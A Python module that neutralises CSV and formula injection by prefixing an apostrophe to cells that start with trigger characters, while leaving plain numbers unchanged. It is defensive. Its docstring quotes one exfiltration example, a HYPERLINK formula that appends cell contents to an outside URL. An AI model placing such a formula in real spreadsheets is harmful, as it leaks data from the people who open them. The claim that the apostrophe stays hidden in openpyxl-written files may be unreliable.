"""Cells a spreadsheet will not run: neutralising CSV and formula injection.

A spreadsheet program opening a CSV (or an XLSX written with openpyxl, which stores any string
starting with ``=`` as a formula) treats a cell that starts with ``=``, ``+``, ``-`` or ``@`` as a
formula, and tab or carriage return can smuggle one past a first-character check. An answer such
as ``=HYPERLINK("http://…?"&A1, "Open")`` then runs on the computer of whoever opens the file.
Following OWASP's CSV injection guidance, such a cell gets a leading apostrophe (``'``), which
spreadsheets show as text and do not display.

A plain number (``-5``, ``+3.25``, ``-1e3``) is left as it is: it cannot be a formula, and
prefixing it would turn a negative score into text. Values that are not strings (numbers, dates,
``None``) pass through unchanged, so XLSX cells keep their types.

Use :func:`neutral_row` for every row of a CSV or XLSX a person may open.
"""

from __future__ import annotations

import re
from collections.abc import Iterable
from typing import Any

__all__ = ["neutral_row", "neutralise"]

#: first characters that make a spreadsheet read a cell as a formula (or hide one behind them)
FORMULA_TRIGGERS = frozenset("=+-@\t\r")
_PLAIN_NUMBER = re.compile(r"[+-]?(?:[0-9]+(?:\.[0-9]*)?|\.[0-9]+)(?:[eE][+-]?[0-9]+)?", re.ASCII)


def neutralise(value: Any) -> Any:
    """``value`` safe to put in a spreadsheet cell: a string that a spreadsheet would read as a
    formula gets a leading ``'``; plain numbers and non-strings are returned unchanged."""
    if not isinstance(value, str) or not value or value[0] not in FORMULA_TRIGGERS:
        return value
    if _PLAIN_NUMBER.fullmatch(value):
        return value
    return "'" + value


def neutral_row(values: Iterable[Any]) -> list[Any]:
    """A row of cells, each through :func:`neutralise`."""
    return [neutralise(v) for v in values]
